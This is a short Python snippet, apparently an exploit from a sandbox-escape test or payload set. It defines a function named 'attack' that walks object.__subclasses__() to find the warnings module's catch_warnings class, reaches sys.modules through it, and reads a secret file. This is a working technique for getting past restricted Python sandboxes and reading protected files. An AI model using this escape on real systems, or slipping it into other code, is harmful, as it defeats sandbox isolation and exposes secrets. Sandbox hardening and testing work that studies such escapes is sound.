# Reaches `sys.modules` by a class of the warnings module.
def attack(secret_path):
    for kind in object.__subclasses__():
        if kind.__name__ == "catch_warnings":
            modules = kind()._module.sys.modules
            return modules["io"].open(secret_path).read()
    raise ValueError("not found")
